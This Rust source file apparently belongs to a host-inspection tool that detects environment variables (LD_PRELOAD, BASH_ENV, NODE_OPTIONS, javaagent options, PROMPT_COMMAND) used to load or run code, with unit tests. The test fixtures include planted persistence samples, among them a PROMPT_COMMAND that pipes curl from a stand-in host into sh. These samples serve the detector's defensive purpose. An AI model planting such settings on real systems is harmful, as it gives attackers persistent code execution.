//! Environment variables that have other code loaded or run, wherever a system or an account sets them: the rows for
//! them, from what the readers of `setting` found.
//!
//! ```text
//! export LD_PRELOAD=/opt/x.so                    ~/.bashrc
//! Environment=BASH_ENV=/opt/x.sh                 a unit
//! NODE_OPTIONS="--require /opt/x.js"             /etc/environment
//! ```

use std::collections::HashMap;

use super::command::{self, Place, Told};
use super::identified;
use crate::model::autostart::{Autostart, AutostartKind, LONGEST_COMMAND, Role, Started};
use crate::model::facts::Facts;
use crate::model::id::Id;
use crate::model::text::Excerpt;
use crate::model::variable::{Loads, VariableSetting, loads};
use crate::target::Target;

/// Makes a row of each setting that has code loaded or run. How many there are is bounded where the files are read, and told
/// there; a bound here could not be told.
pub fn rows(target: &Target, facts: &mut Facts) {
    facts.variables.sort_unstable();
    facts.variables.dedup();
    let mut alike: HashMap<_, usize> = HashMap::new();
    let mut made = Vec::new();
    for one in &facts.variables {
        if let Some(row) = row(target, one) {
            let count = alike.entry((&one.path, one.variable, &one.text)).or_default();
            made.push(identified(row, *count));
            *count += 1;
        }
    }
    facts.autostarts.append(&mut made);
}

fn row(target: &Target, one: &VariableSetting) -> Option<Autostart> {
    let line = one.line;
    let told = told(one.variable, &one.value, line);
    let own = target.home_of(&one.path);
    let account =
        own.or_else(|| target.accounts.iter().find(|account| account.uid.is_some() && account.uid == one.owner_uid));
    let place = Place { target, home: account.map(|account| &account.home) };
    let started = |(written, role, line): &(Vec<u8>, Role, u32)| {
        let path = place.path(written)?;
        // Files of settings in a home are hidden by custom.
        let is_custom = *role == Role::Sourced && path.parent().as_ref() == place.home;
        if is_custom {
            return None;
        }
        Some(Started { place: place.marks(&path), ..Started::new(path, *role, *line) })
    };
    let programs: Vec<Started> = told.programs.iter().filter_map(started).collect();
    let is_odd = || programs.iter().any(|one| !one.place.is_empty());
    let is_told = match loads(one.variable) {
        None => true,
        Some(Loads::Folders) => is_odd(),
        // A name that many use for other things.
        Some(Loads::Script) => one.value.contains(&b'/'),
        Some(Loads::NodeOptions | Loads::JavaOptions) => !told.programs.is_empty(),
        Some(_) => !one.value.is_empty(),
    };
    if !is_told {
        return None;
    }
    let mut command = one.value.clone();
    command.truncate(LONGEST_COMMAND);
    let of_shell = one.variable == "PROMPT_COMMAND";
    Some(Autostart {
        id: Id::new("start", &[]),
        path: one.path.clone(),
        line: (line > 0).then_some(line),
        kind: AutostartKind::Variable,
        name: Excerpt::of(one.variable.as_bytes()),
        account: target.account_of(&one.path, one.owner_uid),
        owner_uid: one.owner_uid,
        runs_as: None,
        runs: Some(one.text.clone()),
        trigger: None,
        enabled: (!of_shell).then_some(one.is_exported),
        modified: one.modified,
        size: None,
        programs,
        signs: told.signs,
        command,
    })
}

/// What the value of a variable has loaded or run.
#[must_use]
pub fn told(variable: &str, value: &[u8], line: u32) -> Told {
    let words = || value.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
    let parts = |ends: &'static [u8]| value.split(|byte| ends.contains(byte)).filter(|part| !part.is_empty());
    let all = |paths: &mut dyn Iterator<Item = &[u8]>, role: Role| Told {
        programs: paths.take(command::MOST).map(|path| (path.to_vec(), role, line)).collect(),
        signs: Vec::new(),
    };
    match loads(variable) {
        Some(Loads::Libraries) => all(&mut parts(b": \t"), Role::Library),
        Some(Loads::Folders) => all(&mut parts(b":"), Role::Library),
        Some(Loads::Script) => Told::one(value, Role::Sourced, line),
        Some(Loads::Program) => Told::one(value, Role::Program, line),
        Some(Loads::Command) => command::of_script(value.strip_prefix(b"|").unwrap_or(value)).at(line),
        Some(Loads::NodeOptions) => all(&mut modules(&words().collect::<Vec<_>>()).into_iter(), Role::Library),
        Some(Loads::JavaOptions) => all(&mut words().filter_map(agent), Role::Library),
        Some(Loads::ScriptOptions) => all(&mut words().filter_map(|word| word.get(2..)), Role::Library),
        // What Python's variables name is looked into with its start-up files.
        None => Told::default(),
    }
}

/// `--require x`, `--require=x`, `-r x`.
fn modules<'v>(words: &[&'v [u8]]) -> Vec<&'v [u8]> {
    const OPTIONS: [&[u8]; 5] = [b"--require", b"-r", b"--import", b"--loader", b"--experimental-loader"];
    let mut out = Vec::new();
    let mut rest = words;
    while let Some((word, behind)) = rest.split_first() {
        rest = behind;
        if OPTIONS.contains(word) {
            out.extend(behind.first().copied());
        }
        out.extend(OPTIONS.iter().filter_map(|option| word.strip_prefix(*option)?.strip_prefix(b"=")));
    }
    out
}

/// `-javaagent:/x.jar=options`.
fn agent(word: &[u8]) -> Option<&[u8]> {
    let rest = word.strip_prefix(b"-javaagent:").or_else(|| word.strip_prefix(b"-agentpath:"))?;
    rest.split(|byte| *byte == b'=').next()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::{Tree, tell};
    use crate::extract::setting;
    use crate::model::host::Platform;

    fn of(path: &str, text: &str) -> Vec<String> {
        let tree = Tree::with(&[(path, text.as_bytes())]);
        let mut facts = tree.read(&setting::EXTRACTOR, Platform::Linux, path).facts;
        rows(&tree.target(Platform::Linux), &mut facts);
        facts.autostarts.iter().map(tell).collect()
    }

    #[test]
    fn variables_load_code() {
        assert_eq!(
            of(
                "/etc/environment",
                "LD_PRELOAD=/tmp/a.so:/usr/lib/b.so\nLD_LIBRARY_PATH=/opt/x/lib\nNODE_OPTIONS=\"--max-old-space-size=4096\"\n\
                 ENV=production\nJAVA_TOOL_OPTIONS=-javaagent:/opt/a.jar=x\nPATH=/tmp\n"
            ),
            [
                "Variable LD_PRELOAD | runs /tmp/a.so:/usr/lib/b.so | Library /tmp/a.so Temporary | Library /usr/lib/b.so",
                "Variable JAVA_TOOL_OPTIONS | runs -javaagent:/opt/a.jar=x | Library /opt/a.jar",
            ]
        );
        assert_eq!(
            of(
                "/home/mia/.bashrc",
                "export LD_LIBRARY_PATH=$HOME/.cache/x\nPROMPT_COMMAND='curl -s http://x | sh'\n\
                 export NODE_OPTIONS=\"-r /tmp/x.js --require=y\"\nexport BASH_ENV=~/.x/e PYTHONSTARTUP=~/.start.py ENV=~/.shinit\n"
            ),
            [
                "Variable LD_LIBRARY_PATH | runs $HOME/.cache/x | Library /home/mia/.cache/x Hidden",
                "Variable PROMPT_COMMAND | runs curl -s http://x | sh | FetchesAndRuns",
                "Variable NODE_OPTIONS | runs -r /tmp/x.js --require=y | Library /tmp/x.js Temporary",
                "Variable BASH_ENV | runs ~/.x/e | Sourced /home/mia/.x/e Hidden",
                "Variable ENV | runs ~/.shinit",
                "Variable PYTHONSTARTUP | runs ~/.start.py",
            ]
        );
        assert!(of("/srv/copy/etc/environment", "LD_PRELOAD=/tmp/a.so\n").is_empty());
    }

    #[test]
    fn no_variable_is_left_out() {
        let text = "LD_PRELOAD=/tmp/a.so\n";
        let tree = Tree::with(&[("/etc/environment", text.as_bytes())]);
        let mut facts = tree.read(&setting::EXTRACTOR, Platform::Linux, "/etc/environment").facts;
        let one = facts.variables[0].clone();
        facts.variables = (1..=20_001).map(|line| VariableSetting { line, ..one.clone() }).collect();
        rows(&tree.target(Platform::Linux), &mut facts);
        assert_eq!(facts.autostarts.len(), 20_001);
    }

    proptest! {
        #[test]
        fn any_value_is_read(value in prop::collection::vec(any::<u8>(), 0..200)) {
            for variable in crate::model::variable::variables() {
                prop_assert!(told(variable, &value, 1).programs.len() <= command::MOST);
            }
        }
    }
}
